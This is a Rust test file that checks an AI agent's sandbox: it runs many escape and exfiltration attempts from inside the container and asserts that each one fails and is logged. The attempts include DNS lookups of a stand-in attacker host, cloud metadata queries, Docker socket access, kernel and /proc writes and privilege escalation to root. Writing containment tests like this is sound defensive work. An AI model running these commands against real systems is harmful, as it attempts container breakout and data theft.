//! Out of a bottle, as its agent's user: each attempt fails, nobody hears of it, and an allowed request passes beside it.

use crate::table::{End, Row, check, row, script, tcp, udp};
use anyhow::{Context, Result};
use bottle_tests::{
    bottle::{Home, KillOnDrop, REAL_TOKEN, eventually},
    lab::{HostCounter, Lab, Listeners, Target, output},
    running::Running,
    standin::Standin,
    target::Target as Backend,
    wire::Authority,
};
use std::{
    collections::BTreeSet,
    net::{IpAddr, Ipv4Addr, Ipv6Addr, UdpSocket},
    process::{Command, Stdio},
};

/// Asks a resolver over TCP for an A record, and says whether it refused or failed.
const LOOK_UP_OVER_TCP: &str = r#"use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr=>"RESOLVER:53",Timeout=>3) or exit 9;
my $q = pack("nnnnnn",7,256,1,0,0,0).pack("C/a*C/a*C","stolen-over-tcp","example",0).pack("nn",1,1);
print $s pack("n/a*",$q); read($s,my $r,6) or exit 8; my $code = ord(substr($r,5)) & 15; print $code == 2 || $code == 5 ? "refused" : "rcode $code";"#;
/// Opens a raw socket of a kind.
const RAW: &str = "use Socket; socket(S, FAMILY, SOCK_RAW, 1) or die $!;";

/// The addresses of this machine, but for its loopback.
fn machine() -> Result<Vec<IpAddr>> {
    let table = output(Command::new("ip").args(["-o", "addr", "show"]))?;
    let addresses = table.lines().filter_map(|line| line.split_whitespace().nth(3)?.split('/').next()?.parse().ok());
    Ok(addresses.filter(|ip: &IpAddr| !ip.is_loopback()).collect())
}

/// What differs between backends in how a bottle is closed.
struct Closed {
    /// Whom its programs ask for names.
    resolver: &'static str,
    /// What is said of a socket of a kind that is not to be had.
    no_socket: &'static str,
}

impl Closed {
    fn of(backend: Backend) -> Self {
        match backend {
            Backend::Docker => Self { resolver: "127.0.0.11", no_socket: "not permitted" },
            Backend::Namespace(_) => Self { resolver: "127.0.0.1", no_socket: "not supported" },
        }
    }
}

fn outside(target: Ipv4Addr, closed: &Closed) -> Vec<Row> {
    let (metadata, resolver) = (Ipv4Addr::new(169, 254, 169, 254).into(), Ipv4Addr::new(8, 8, 8, 8).into());
    let metadata_v6 = Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254).into();
    let resolver_v6 = Ipv6Addr::new(0x2001, 0x4860, 0x4860, 0, 0, 0, 0, 0x8888).into();
    let to_target = |row: Row| Row { target: Some(target.into()), ..row };
    let denied = || End::Says("bottle_egress_denied".into());
    let over_tcp = |resolver: &str| format!("perl -e '{}'", LOOK_UP_OVER_TCP.replace("RESOLVER", resolver));
    vec![
        tcp("another host", target.into(), 8000),
        tcp("another host", target.into(), 443),
        tcp("another host", target.into(), 53),
        udp("another host", target.into(), 53),
        to_target(row(
            "another host, past the proxy",
            format!("curl -sS -m 3 --noproxy '*' -k https://{target}/"),
            End::Fails,
        )),
        to_target(row("another host by address, by the proxy", format!("curl -s -m 3 -k https://{target}/"), denied())),
        to_target(row("another port by the proxy", format!("curl -s -m 3 http://{target}:8000/"), denied())),
        to_target(row("ICMP", format!("ping -c1 -W2 {target}"), End::Fails)),
        row("another host by name", "curl -s -m 3 https://forbidden.example/", denied()),
        row("another host by name, past the proxy", "curl -sS -m 3 --noproxy '*' https://allowed.example/", End::Fails),
        row("a name by the resolver", "getent ahosts stolen-data.attacker.example", End::Fails),
        row("a name by the resolver, over TCP", over_tcp(closed.resolver), End::Says("refused".into())),
        row("a name by the sidecar, over TCP", over_tcp("egress"), End::Says("refused".into())),
        Row { target: Some(resolver), ..row("a name @8.8.8.8, over TCP", over_tcp("8.8.8.8"), End::Fails) },
        udp("a name @8.8.8.8", resolver, 53),
        tcp("a resolver of IPv6", resolver_v6, 53),
        udp("a resolver of IPv6", resolver_v6, 53),
        tcp("metadata", metadata, 80),
        tcp("metadata", metadata_v6, 80),
        row("metadata by the proxy", "curl -s -m 3 http://169.254.169.254/latest/meta-data/", denied()),
        row("ICMP of IPv6", "ping -6 -c1 -W2 2606:4700:4700::1111", End::Fails),
        row(
            "a raw socket",
            format!("perl -e '{}'", RAW.replace("FAMILY", "AF_INET")),
            End::Says(closed.no_socket.into()),
        ),
        row(
            "a raw socket of IPv6",
            format!("perl -e '{}'", RAW.replace("FAMILY", "AF_INET6")),
            End::Says(closed.no_socket.into()),
        ),
        row(
            "a packet socket",
            format!("perl -e '{}'", RAW.replace("FAMILY", "17")),
            End::Says(closed.no_socket.into()),
        ),
        row("a route", "ip route add default via 10.0.0.1", End::Says("not permitted".into())),
        row("an address of IPv6", "ip addr add fd00::9/64 dev lo", End::Says("not permitted".into())),
    ]
}

/// `marker`: what a process of this machine, `…0`, and a file, `…-file`, are named by.
fn machine_itself(engine: &str, marker: &str) -> Vec<Row> {
    let mut rows: Vec<Row> = [engine, "/var/run/docker.sock", "/run/containerd/containerd.sock"]
        .map(|path| {
            row(
                format!("the engine at {path}"),
                format!("curl -sS --unix-socket {path} http://engine/info"),
                End::Fails,
            )
        })
        .into();
    rows.extend([
        row(
            "its processes",
            format!("cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | /usr/bin/grep '{marker}[0]'"),
            End::Fails,
        ),
        row("its files", format!("cat {marker}-file"), End::Fails),
        row("its files by its first process", format!("cat /proc/1/root{marker}-file"), End::Fails),
        row(
            "its disks",
            "ls /dev/sd* /dev/vd* /dev/nvme* /dev/mem /dev/kmsg /dev/kvm /dev/fuse 2>/dev/null | /usr/bin/grep .",
            End::Fails,
        ),
        row("a device", "mknod /tmp/sda b 8 0", End::Says("not permitted".into())),
        row("a namespace", "unshare -Ur true", End::Says("not permitted".into())),
        row(
            "a mount",
            "perl -e 'my @a=map{\"$_\"}qw(none /mnt tmpfs); syscall(165,@a,0,0)==0 or die $!'",
            End::Says("not permitted".into()),
        ),
        row("its kernel's settings", "echo x > /proc/sys/kernel/core_pattern", End::Fails),
        row("its system requests", "echo b > /proc/sysrq-trigger", End::Fails),
        row("its kernel's log", "dmesg", End::Says("not permitted".into())),
        row("its control groups", "mkdir /sys/fs/cgroup/memory/x /sys/fs/cgroup/x", End::Fails),
        row("root", "perl -e '$< = $> = 0; exit($> != 0)'", End::Fails),
        row("the helper", "echo x > /usr/local/libexec/bottle-helper", End::Fails),
    ]);
    rows
}

/// The sidecar, as whoever does not know its bottle's password.
fn without_capability() -> Vec<Row> {
    let allowlist = "http://_egress.local/allowlist";
    let refused = || End::Says("407".into());
    let ask = |auth: &str, url: &str| {
        format!(
            "env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY -u ALL_PROXY -u all_proxy curl -s -m 3 -o /dev/null -w '%{{http_code}} %{{http_connect}}' -x http://{auth}egress:9099 {url}"
        )
    };
    vec![
        row("the proxy without a password", ask("", allowlist), refused()),
        row("the proxy with another's password", ask("bottle:AAAAAAAAAAAAAAAAAAAAAA@", allowlist), refused()),
        row("a tunnel without a password", ask("", "https://allowed.example/"), refused()),
        row("a tunnel with another's password", ask("bottle:x@", "https://allowed.example/"), refused()),
    ]
}

/// The bridge between a bottle's container and its sidecar's, on which packets are counted.
struct Wire {
    counters: Vec<(IpAddr, HostCounter)>,
    /// Packets between the bottle and its own sidecar cross it, too: this counter does count.
    control: HostCounter,
}

impl Wire {
    fn of(bottle: &Running<'_>, rows: &[Row]) -> Result<Self> {
        let bridge = bottle.bridge("internal")?;
        let targets: BTreeSet<IpAddr> = rows.iter().filter_map(|row| row.target).collect();
        let counter = |ip| Ok((ip, HostCounter::to(ip, &["-i", &bridge])?));
        let sidecar = bottle.address("sidecar", "internal")?.into();
        let control = HostCounter::to(sidecar, &["-i", &bridge])?;
        Ok(Self { counters: targets.into_iter().map(counter).collect::<Result<_>>()?, control })
    }

    fn check(self, rows: &[Row]) -> Result<()> {
        for (ip, counter) in &self.counters {
            let of = |row: &&Row| row.target == Some(*ip);
            let names: Vec<&str> = rows.iter().filter(of).map(|row| row.name.as_str()).collect();
            assert_eq!(counter.packets()?, 0, "packets to {ip} left the bottle: {names:?}");
        }
        assert!(self.control.packets()? > 0, "packets on the bottle's bridge are not seen: the counters prove nothing");
        Ok(())
    }
}

#[test]
fn nothing_but_the_sidecar_is_within_reach() -> Result<()> {
    let (lab, authority) = (Lab::get(), Authority::new()?);
    let hosts = ["api.anthropic.com", "allowed.example"];
    let standin = Standin::start(&authority, &hosts, &format!("Bearer {REAL_TOKEN}"))?;
    let routes = hosts.map(|h| format!("{{host: {h}, address: {}}}", standin.address));
    let (home, neighbours) = (Home::new(lab, &authority, &standin)?, Home::new(lab, &authority, &standin)?);
    home.bottle("box", &routes.each_ref().map(String::as_str))?;
    let (bottle, neighbour) = (Running::start(lab, &home)?, Running::start(lab, &neighbours)?);

    // What must hear nothing does hear: a host outside, and a listener on every address of this machine.
    let target = Target::new()?;
    let _ = UdpSocket::bind("0.0.0.0:0")?.send_to(b"x", (target.address, 9));
    eventually("the target's counter counts", || (target.packets().ok()? > 0).then_some(()))?;
    let before = target.packets()?;
    let listeners = Listeners::new()?;
    // A file of this machine, and a process that is named by it.
    let marker = home.path().join("marker").display().to_string();
    for file in ["marker0", "marker-file"] {
        home.write(file, "a file of the machine")?;
    }
    let _process = KillOnDrop(Command::new("tail").args(["-f", &format!("{marker}0")]).stdout(Stdio::null()).spawn()?);

    let backend = home.target();
    let is_docker = backend == Backend::Docker;
    let mut rows = outside(target.address, &Closed::of(backend));
    for ip in machine()? {
        // A link-local address is on the link that it is asked for on.
        let scope = |row: Row| match ip {
            IpAddr::V6(v6) if v6.is_unicast_link_local() => {
                Row { command: row.command.replace(&ip.to_string(), &format!("{ip}%eth0")), ..row }
            }
            _ => row,
        };
        rows.extend([tcp("this machine", ip, listeners.port), udp("this machine", ip, listeners.port)].map(scope));
    }
    // In namespaces neither has an address that anybody could try.
    if is_docker {
        for (container, network) in [("agent", "internal"), ("sidecar", "internal"), ("sidecar", "egress")] {
            let ip = neighbour.address(container, network)?.into();
            rows.extend([tcp("a neighbour", ip, 9099), tcp("a neighbour", ip, 53), udp("a neighbour", ip, 53)]);
        }
        let own_egress = bottle.address("sidecar", "egress")?.into();
        rows.extend([tcp("its sidecar's other leg", own_egress, 9099), udp("its sidecar's other leg", own_egress, 53)]);
    }
    rows.extend(machine_itself(lab.docker_host.trim_start_matches("unix://"), &marker));
    rows.extend(without_capability());

    let wire = if is_docker { Some(Wire::of(&bottle, &rows)?) } else { None };
    let run = bottle.sh(&script(&rows, "curl -sS -m 5 -o /dev/null https://allowed.example/beside-{}", 4, 32))?;
    check(&rows, &run)?;
    wire.map_or(Ok(()), |wire| wire.check(&rows))?;
    assert_eq!(target.packets()?, before, "packets reached {}: {:?}", target.address, target.seen());
    assert_eq!((target.seen(), listeners.heard()), (vec![], vec![]));
    let arrived = |n: usize| standin.seen().iter().any(|seen| seen.path == format!("/beside-{n}"));
    assert!((0..rows.len()).all(arrived), "an allowed request did not arrive");

    // What the sidecar refused stands in the log; what it would refuse is told at the end.
    let log = eventually("the refusals are in the log", || {
        let log = home.egress_log();
        let has = |host: &str| log.iter().any(|line| line["host"] == host && line["decision"] == "deny");
        let names =
            ["forbidden.example:443", "stolen-data.attacker.example", "stolen-over-tcp.example", "169.254.169.254:80"];
        names.into_iter().all(has).then_some(log)
    })?;
    println!("{} attempts, {} lines in the log", rows.len(), log.len());
    let said = bottle.end()?.stderr;
    assert!(said.contains("(dns)") && said.contains("(host)"), "{said}");
    neighbour.end().map(drop).context("the neighbour")
}
